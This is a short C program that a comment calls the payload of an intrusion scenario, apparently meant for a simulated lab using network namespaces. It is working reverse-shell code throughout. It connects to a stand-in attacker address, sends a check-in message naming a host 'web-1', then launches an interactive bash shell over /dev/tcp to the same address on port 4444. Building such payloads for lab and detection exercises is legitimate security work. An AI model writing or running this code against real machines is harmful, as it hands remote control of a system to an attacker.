/* The "payload" of the intrusion scenario: says hello to the attacker, then opens a shell to it. Only for the namespaces. */
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
  struct sockaddr_in attacker = {.sin_family = AF_INET, .sin_port = htons(8443)};
  inet_pton(AF_INET, "198.51.100.66", &attacker.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (struct sockaddr *)&attacker, sizeof attacker) != 0) return 1;
  if (write(s, "checkin web-1\n", 14) != 14) return 1;
  close(s);
  sleep(1);
  execl("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1", (char *)0);
  return 1;
}
